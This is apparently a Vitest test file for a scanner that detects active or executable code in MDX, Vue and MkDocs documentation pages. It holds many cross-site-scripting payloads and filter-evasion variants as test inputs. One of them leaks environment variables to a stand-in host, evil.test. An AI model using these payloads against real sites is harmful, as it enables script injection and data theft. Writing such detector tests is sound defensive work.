import { describe, expect, test } from 'vitest';
import { type Dialect, plainMarkdown } from '../markdown/dialect.ts';
import { scanPage } from './scan-page.ts';

const ownModules = [/^@theme\//, /^react$/, /^vue$/, /^@site\//];
const mdx: Dialect = { ...plainMarkdown, mdx: true, templates: false, ownModules };
const vue: Dialect = { ...plainMarkdown, scriptImports: true, ownModules };
const mkdocs: Dialect = { ...plainMarkdown, attributeLists: true, admonitions: true };
const active = (text: string, dialect: Dialect) =>
  scanPage({ text, dialect })
    .filter(({ kind }) => kind === 'active' || kind === 'unchecked')
    .map(({ what }) => what);

describe('code of an MDX page that does more than show values', () => {
  test.each([
    '<a href={"javascript:alert(1)"}>x</a>',
    '<a href={`javascript:alert(1)`}>x</a>',
    '<a href={"java" + "script:alert(1)"}>x</a>',
    'export const a = "java"\n\n<a href={a + "script:alert(1)"}>x</a>',
    'export const u = ["java", "script:1"].join("")\n\n<a href={u}>x</a>',
    '<a href={["java", "script:1"].join("")}>x</a>',
    '<b {...{onClick: (e) => 1}}>x</b>',
    '<div {...{dangerouslySetInnerHTML}}/>',
    'export const x = {dangerouslySetInnerHTML: {__html: "<b>"}}\n\n<div {...x}/>',
    '<div {...Object.fromEntries([["a", 1]])}/>',
    'export const T = "script";\n\n<T src="https://evil.test/x.js"/>',
    'export const T = ["scr", "ipt"].join("")\n\n<T/>',
    'export const A = ({as: T}) => <T/>\n\n<A as="script"/>',
    "{React.createElement('script', {src: 'x'})}",
    'import { createElement as c } from "react"\n\n{c("script")}',
    '{(({createElement: c}) => c("script"))(React)}',
    'export const A = () => <svg:script href="x" />',
    'import R from "react"\n\n{R["createElement"]("script")}',
    '<meta httpEquiv="refresh" content="0;url=https://evil.test"/>',
    '<iframe srcDoc={"<script>1</script>"}/>',
    "{(() => {const i = new Image(); i.src = 'x'; return null})()}",
    '{open("https://evil.test")}',
    '{new Audio("https://evil.test")}',
    '{(({constructor: c}) => c("return 1")())(() => {})}',
    '<img src={"https://evil.test/" + JSON.stringify(import.meta.env)} />',
    '{[].map.constructor}',
    '{""["sub"]["constr" + "uctor"]}',
    '{((a) => a[b])(1)}',
    'export const a = 1\n\n{a = 2}',
    '{`x`.at`y`}',
    '{this}',
    '{f()()}',
    'export class A extends B {}',
    '{x => x.view.alert(1)}',
    '{alert`1`}',
    '{a b c}',
  ])('%s', (text) => {
    expect(active(text, mdx)).not.toEqual([]);
  });

  test.each([
    'import Tabs from "@theme/Tabs"\nimport { useState } from "react"\nimport x from "./x.js"\n\n<Tabs values={[{label: "A", value: "a"}]}>a</Tabs>',
    'export const items = [{name: "a", url: "/x"}]\n\n<ul>{items.map(({name, url}) => <li key={name}><a href={url}>{name}</a></li>)}</ul>',
    'export const Highlight = ({children, color}) => (\n  <span style={{backgroundColor: color, padding: "0.2rem"}}>{children}</span>\n)\n\n<Highlight color="#25c2a0">x</Highlight>',
    'import useBaseUrl from "@site/x"\n\n<img src={useBaseUrl("/img/x.png")} />',
    'import Source from "./a.js"\n\n<CodeBlock language="js">{Source}</CodeBlock>',
    '<Steps count={3} isOpen style={{ width: 10 }} icon={<Icon name="x" />} />',
    '{new Date().getFullYear()}',
    '{props.version ? <b>{props.version}</b> : null}',
    'export const meta = { title: "x", ["a-b"]: 1 }',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the page’s own
    '<Link to={`/docs/${props.version}/install`}>x</Link>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the page’s own
    '<Link to={`${props.base}/install`}>x</Link>',
    'export const fn = (a: string): string => a.trim()\n\n{fn("x")}',
    '<Card {...props} title="x" />',
    '<Tabs.Tab>a</Tabs.Tab>',
    'import { Tabs } from "@theme/Tabs"\n\n<Tabs.Tab>a</Tabs.Tab>',
    '{/* a comment */}',
  ])('is not in what shows them: %s', (text) => {
    expect(active(text, mdx)).toEqual([]);
  });

  test('is another item when what it is called with changes', () => {
    const identities = (text: string) =>
      scanPage({ text, dialect: mdx }).flatMap(({ kind, identity }) => (kind === 'active' ? identity : []));
    expect(identities('{fetch("/a")}\n\nOld.')).toEqual(identities('New.\n\n{fetch("/a")}'));
    expect(identities('{fetch("/a")}')).not.toEqual(identities('{fetch("/b")}'));
  });

  test('has its hosts told', () => {
    const found = scanPage({ text: '<Card data={["https://one.test/x"]} />', dialect: mdx });
    expect(found.map(({ host }) => host)).toEqual(['one.test']);
  });
});

describe('Vue’s templates are code', () => {
  test.each([
    "{{ ''.constructor.constructor('return fetch(1)')() }}",
    '{{ $root.x }}',
    '{{ foo() }}',
    "a {{ <b>''.constructor</b> }}",
    `<a :href="'java'+'script:alert(1)'">x</a>`,
    `<a :href="'javascript:alert(1)'">x</a>`,
    `<a v-bind:href="a + 'script:alert(1)'">x</a>`,
    '<div v-on="{click: x}">x</div>',
    '<div @[event]="x">x</div>',
    `<div :innerHTML.prop="'<b>'"></div>`,
    `<div .innerHTML="'<b>'"></div>`,
    '<div :[key]="x"></div>',
    `<div :inner-html.camel="'<b>'"></div>`,
    '```js [{{ foo() }}]\nx\n```',
    '```js-vue\n{{ foo() }}\n```',
    `<div v-bind="{innerHTML: x}"></div>`,
    `<component :is="'script'" src="https://evil.test/x.js"></component>`,
    '<component is="script" src="https://evil.test/x.js"></component>',
    '<component :is="x"></component>',
    `<p v-if="''.constructor">x</p>`,
    '<p v-for="x in [].constructor">x</p>',
    '**x**{onclick=alert(1)}',
    '<script setup lang="ts">\ndeclare const fetch: any\nfetch("https://evil.test")\n</script>',
    '<script setup>\nimport { h } from "vue"\nconst x = h("script")\n</script>',
  ])('%s', (text) => {
    expect(active(text, vue)).not.toEqual([]);
  });

  test.each([
    '{{ $frontmatter.title }} and {{ theme.name }} {{ 1 + 1 }}',
    '`{{ foo() }}`\n\n```\n{{ foo() }}\n```',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the page’s own
    '<script setup>\nimport A from "./A.vue"\nimport { ref } from "vue"\nconst n = ref(0)\n</script>\n\n<A v-for="x in n" :key="x" :title="`a ${x}`" v-if="n > 0"><template #item="{ row }">{{ row }}</template></A>',
    '<img :src="withBase(\'/x.png\')"> <component :is="A" />\n\n<script setup>\nimport A from "./A.vue"\n</script>',
    '## Title {#custom-id}\n\n[x](y){target="_blank" .class}',
  ])('and what shows values is harmless: %s', (text) => {
    expect(active(text, vue)).toEqual([]);
  });
});

describe('markup that another renderer makes of a page', () => {
  test.each([
    '[x](index.md){ onclick="alert(1)" }',
    '## H { onclick=alert(1) }',
    'x\n{: onclick="alert(1)" }',
    '/// html | script\nalert(1)\n///',
    '/// note\n    attrs: {onclick: alert(1)}\nx\n///',
    '/// note\n    attrs:\n      onclick: alert(1)\nx\n///',
    'a <img/src="x"/onerror=alert(1)> b',
    'a <script/src=https://evil.test/x.js></script>',
    '<a href="x"onclick=alert(1)>x</a>',
    '\\<script>alert(1)</script>',
    '``` { onclick=alert(1) }\nx\n```',
    '```python exec="on"\nimport os\n```',
    '``` pyodide\nimport js\n```',
    '{{ config.__class__ }}',
    "{% set x = y|attr('a') %}",
  ])('MkDocs: %s', (text) => {
    expect(active(text, mkdocs)).not.toEqual([]);
  });

  test.each([
    'x <xmp><a title="</xmp><script>alert(1)</script>"></xmp>',
    "<div title='\n\n<div title='><script>alert(1)</script>'>\n\nx\n\n</div>",
    "<div title='\n\nHello' onmouseover=alert(1) x",
    "<div title='\n\n<div title=' onmouseover=alert(1) x='>\n\nx\n\n</div>",
  ])('split over blocks: %s', (text) => {
    for (const dialect of [plainMarkdown, mkdocs, vue]) expect(active(text, dialect)).not.toEqual([]);
  });

  test.each([
    'Use `{ onclick="x" }` and Map<K, V> and a &lt;script&gt; or \\<script>.',
    '```html\n<a {onclick=x}>\n```\n\n{.note #id key="value"}',
    '<details>\n<summary>More</summary>\n\nText with "quotes" and onclick=x.\n\n</details>',
    '<details><summary title="a>b">More</summary>\n\nIt’s `x`.\n\n</details>',
  ])('is not in %s', (text) => {
    expect(active(text, plainMarkdown)).toEqual([]);
  });
});
